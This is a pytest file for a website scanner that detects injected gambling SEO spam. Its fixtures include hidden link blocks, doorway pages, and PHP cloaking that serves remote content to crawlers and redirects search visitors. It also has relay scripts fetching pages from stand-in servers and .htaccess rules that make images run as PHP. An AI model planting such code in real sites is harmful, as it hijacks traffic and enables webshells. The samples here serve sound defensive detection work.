"""Injected gambling/SEO spam, cloaking, doorway pages and .htaccess tricks.

The samples are built after the pattern public incident write-ups describe for Indonesian
government and university sites defaced with online-gambling spam (2023-2024): a hidden
``<div style="display:none">`` (or off-screen) block of "slot gacor" links appended to the
theme's footer or index.php, a PHP snippet that serves a different page only when the visitor
is Googlebot or comes from a Google search, whole doorway pages under a new folder, and
.htaccess lines redirecting crawlers. Domains are reserved example names.
"""

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import analyse, php, spam, yarascan

UPLOADS = analyse.DEFAULT_UPLOAD_DIRS

HIDDEN_FOOTER = b"""<footer class="site-footer"><p>&copy; 2024 Dinas Pendidikan Kabupaten Contoh</p>
<div style="position:absolute; left:-9999px; top:-9999px">
<a href="https://slot-gacor.example/">slot gacor</a> <a href="https://situs.example/">situs slot online</a>
<a href="https://togel.example/">togel online</a> <a href="https://rtp.example/">rtp live hari ini</a>
<a href="https://maxwin.example/">slot gacor maxwin</a></div></footer>"""

HIDDEN_PHP = b"""<?php get_header(); ?>
<main><?php the_content(); ?></main>
<div style="display:none"><a href="https://bandar.example/">bandar togel</a>, <a href="https://sbobet.example/">sbobet</a>,
<a href="https://x.example/">judi bola</a></div>
<?php get_footer(); ?>"""

CLOAKING = b"""<?php
$ua = strtolower($_SERVER['HTTP_USER_AGENT']);
$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
if (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {
    echo file_get_contents('https://cdn-slot.example/landing/kab-contoh.html');
    exit;
}
if (strpos($ref, 'google.') !== false) {
    header('Location: https://situs-slot-gacor.example/daftar');
    exit;
}
?>"""

DOORWAY = ("<html><head><title>SLOT GACOR HARI INI - Situs Slot Online Gampang Maxwin</title></head><body>"
           + "".join('<p><a href="https://link%d.example/">slot gacor</a> situs judi slot online terpercaya, '
                     'rtp live slot gacor hari ini, bocoran slot gacor, daftar slot deposit pulsa tanpa potongan, '
                     'togel online, sbobet, pragmatic play, scatter hitam mahjong ways.</p>' % i for i in range(12))
           + "</body></html>").encode()

NEWS = b"""<html><body><h1>Pemkab Gelar Sosialisasi Bahaya Judi Online</h1>
<p>Pemerintah kabupaten mengajak warga menjauhi judi online dan melaporkan situs judi kepada Kominfo.</p>
<p>Baca juga: <a href="https://www.kominfo.go.id/">Kominfo</a></p></body></html>"""

SCATTER_JS = b"""import { scatter } from 'd3'; const chart = scatter().hidden(false);
/* display:none toggles the legend */ el.style.display = 'none'; // slot for the deposit widget
export function slot(name) { return document.querySelector('[slot=' + name + ']'); }"""


def verdict(name, data):
    return analyse.analyse(name, data, 10, UPLOADS)


def test_hidden_link_block_in_a_theme_footer():
    result = verdict("wp-content/themes/dinas/footer.html", HIDDEN_FOOTER)
    assert result["kind"] == "spam_injection" and "hidden_gambling_links" in result["signals"]


def test_hidden_link_block_in_php_template():
    result = verdict("wp-content/themes/dinas/index.php", HIDDEN_PHP)
    assert result["kind"] == "spam_injection", result
    assert "slot" in result["excerpt"] or "display" in result["excerpt"] or "togel" in result["excerpt"]


def test_server_side_cloaking_for_crawlers():
    result = verdict("index.php", CLOAKING)
    assert result["kind"] == "spam_injection", result
    assert "crawler_cloaking" in result["signals"]


def test_doorway_page():
    result = verdict("slot-gacor/index.html", DOORWAY)
    assert result["kind"] == "spam_injection" and "doorway_page" in result["signals"]


def test_news_about_gambling_and_ordinary_javascript_are_not_spam():
    assert verdict("berita/judi.html", NEWS)["kind"] is None
    assert verdict("assets/chart.js", SCATTER_JS)["kind"] is None


# Chinese gambling spam as pages taken from compromised sites carry it (vickybravo/webshells, 2019): a block of
# lottery, baccarat and casino links that a script hides once the page loads, and whole doorway pages, in UTF-8, GBK
# or as HTML character references. Written here after that pattern with reserved addresses.
CJK_TERMS = ("时时彩", "百家乐", "澳门娱乐城", "六合彩开奖", "北京赛车", "真人娱乐")
CJK_BLOCK = ('<script type="text/javascript">document.getElementById("links").style.display="none";</script>\n'
             '<div id="links">' + "".join('<a href="http://lottery%d.example/">%s</a><br>' % (i, term)
                                          for i, term in enumerate(CJK_TERMS)) + "</div>\n")
CJK_DOORWAY = ("<html><head><title>时时彩官网_百家乐投注平台</title></head><body>"
               + "".join('<p><a href="http://l%d.example/">时时彩</a> 百家乐 彩票开奖 北京赛车投注 澳门葡京娱乐城 '
                         '真人娱乐 六合彩 老虎机</p>' % i for i in range(12)) + "</body></html>")
CJK_NEWS = ("<html><body><h1>市政府发布公告</h1><p>本市福利彩票发行中心今日公布年度公益金使用情况。</p>"
            '<p><a href="http://www.gov.example/">返回首页</a></p></body></html>')


def test_the_chinese_terms_are_among_the_literals_yara_looks_for():
    # php.holds_any answers from YARA's pass for a large text: a spelling it was never given would never be found.
    assert spam._CJK_LITERALS <= set(php.automaton_literals())
    page = ("<p>" + "新闻 " * 300 + "</p>" + CJK_BLOCK).encode("gbk")
    low = page.decode("latin-1").lower()
    rules, _problem = yarascan.load(None, generic=True, literals=php.automaton_literals())
    php.take_present(low, yarascan.read(rules, page)[1])
    assert spam._holds_cjk(low) and spam.terms(low)[1] == {"时时彩", "百家乐", "娱乐城", "六合彩", "开奖", "北京赛车",
                                                          "真人娱乐"}


def test_chinese_link_block_a_script_hides_is_spam():
    page = "<html><body><p>Selamat datang di situs resmi Pengadilan.</p>\n" + CJK_BLOCK + "</body></html>"
    result = verdict("index.html", page.encode("utf-8"))
    assert result["kind"] == "spam_injection" and "hidden_gambling_links" in result["signals"], result


def test_chinese_doorway_page_in_each_encoding():
    decimal = "".join("&#%d;" % ord(c) if ord(c) > 127 else c for c in CJK_DOORWAY)
    hexadecimal = "".join("&#x%X;" % ord(c) if ord(c) > 127 else c for c in CJK_DOORWAY)
    for encoded in (CJK_DOORWAY.encode("utf-8"), CJK_DOORWAY.encode("gbk"), CJK_DOORWAY.encode("big5", "replace"),
                    decimal.encode("ascii"), hexadecimal.encode("ascii")):
        result = verdict("cp/index.php", encoded)
        assert result["kind"] == "spam_injection" and "doorway_page" in result["signals"], (encoded[:40], result)


@pytest.mark.parametrize("script", [b'document.getElementById("ad-links").style.display = "none";',
                                    b"$('#ad-links').hide();", b"jQuery( '#ad-links' ).css('display', 'none');"])
def test_a_script_hidden_element_of_indonesian_gambling_links_is_spam(script):
    page = (b'<div id="ad-links"><a href="https://x.example/">slot gacor</a> <a href="https://y.example/">situs '
            b'togel</a></div>\n<p>Berita</p><script>' + script + b"</script>")
    result = verdict("index.html", page)
    assert result["kind"] == "spam_injection" and "hidden_gambling_links" in result["signals"], result
    # The same links shown: gambling words in plain sight are news or a link list, not a hidden block.
    shown = verdict("index.html", page.replace(b"ad-links').hide", b"ad-links').show").replace(b"'none'", b"'block'")
                    .replace(b'"none"', b'"block"'))
    assert "hidden_gambling_links" not in shown["signals"], shown


def test_chinese_news_and_a_script_hiding_an_ordinary_menu_are_not_spam():
    assert verdict("berita/index.html", CJK_NEWS.encode("utf-8"))["kind"] is None
    menu = ('<div id="menu"><a href="http://www.gov.example/">首页</a> <a href="http://www.gov.example/news">新闻</a>'
            '</div><script>document.getElementById("menu").style.display = "none";</script>')
    assert verdict("index.html", menu.encode("utf-8"))["kind"] is None
    # The script hides an element the page does not have: the gambling words stand in plain sight (a news list).
    shown = ('<ul><li><a href="http://news.example/1">时时彩 百家乐 老虎机 案件宣判</a></li></ul>'
             '<script>document.getElementById("popup").style.display = "none";</script>')
    assert "hidden_gambling_links" not in verdict("index.html", shown.encode("utf-8"))["signals"]


# Remote pages relayed as the site's own (the SEO "parasite" pages of public malware collections: a remote server
# builds a page for each host and address it is asked about, the planted file prints it). Written here after that
# technique with reserved addresses; each variant fetches another way.
RELAYS = {
    "direct": "<?php\n$remote = 'http://203.0.113.7';\n$me = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['PHP_SELF'];\n"
              "$page = file_get_contents($remote . '/index.php?host=' . $me . '&url=' . $_SERVER['QUERY_STRING']);\n"
              "echo $page;\n",
    "helper": "<?php\n$srv = \"http://spam.example/\";\n$h = \"http://\".$_SERVER['SERVER_NAME'].$_SERVER['REQUEST_URI'];\n"
              "$c = fetch_page($srv . '/?host=' . $h);\necho $c;\nfunction fetch_page($u) {\n"
              "  $ctx = stream_context_create(array('http' => array('method' => 'GET')));\n"
              "  $html = @file_get_contents($u, false, $ctx);\n  return $html;\n}\n",
    "curl_helper": "<?php\n$str = get_content('http://html.example/proxy.php?' . $_SERVER['REQUEST_URI'] . '|' . "
                   "$_SERVER['HTTP_HOST']);\necho $str;\nfunction get_content($url) {\n  $ch = curl_init();\n"
                   "  curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n  curl_setopt($ch, CURLOPT_URL, $url);\n"
                   "  $data = curl_exec($ch);\n  return $data;\n}\n",
    "curl": "<?php\n$ch = curl_init('https://cdn.example/gen.php?d=' . urlencode($_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']));"
            "\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$out = curl_exec($ch);\nprint $out;\n",
}
# What applications do with their own address and a remote service: a share counter decodes the answer, a proxy
# forwards the query but not the site's host, a canonical link prints the site's own address.
NOT_RELAYS = {
    "share_count": "<?php\n$self = 'https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n"
                   "$json = file_get_contents('https://graph.example/?id=' . urlencode($self));\n"
                   "$data = json_decode($json);\necho (int) $data->shares;\n",
    "api_proxy": "<?php\n$answer = file_get_contents('https://api.example/search?' . $_SERVER['QUERY_STRING']);\n"
                 "echo $answer;\n",
    "canonical": "<?php\n$url = 'https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n"
                 "$menu = file_get_contents(__DIR__ . '/menu.html');\necho $menu;\n"
                 "echo '<link rel=\"canonical\" href=\"' . htmlspecialchars($url) . '\">';\n",
}


def test_a_remote_page_relayed_for_this_host_and_address_is_spam():
    for name, code in RELAYS.items():
        result = verdict("news/%s.php" % name, code.encode())
        assert result["kind"] == "spam_injection" and "remote_page_relayed" in result["signals"], (name, result)


def test_a_remote_answer_the_application_uses_is_no_relay():
    for name, code in NOT_RELAYS.items():
        result = verdict("lib/%s.php" % name, code.encode())
        assert "remote_page_relayed" not in (result or {}).get("signals", ()), (name, result)


def test_htaccess_making_images_executable_and_redirecting_crawlers():
    handler = b"<FilesMatch \"\\.(jpg|png)$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"
    assert "htaccess_executes_other_extensions" in verdict("wp-content/uploads/.htaccess", handler)["signals"]
    addtype = b"AddType application/x-httpd-php .jpg .ico\n"
    assert verdict(".htaccess", addtype)["kind"] == "webshell"
    redirect = (b"RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} (google|bing) [NC]\n"
                b"RewriteRule ^(.*)$ https://slot.example/$1 [R=302,L]\n")
    assert verdict(".htaccess", redirect)["kind"] == "spam_injection"
    plain = b"RewriteEngine On\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\n"
    assert verdict(".htaccess", plain)["kind"] is None


def test_gate_groups_cover_every_gate_word():
    """The grouped gate (a stem looked up first) must hold every gate word, or a spam page would slip past."""
    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import spam as spam_mod

    grouped = {word for stem, group in spam_mod._GATE_GROUPS for word in group if stem in word}
    assert grouped == set(spam_mod._GATE)
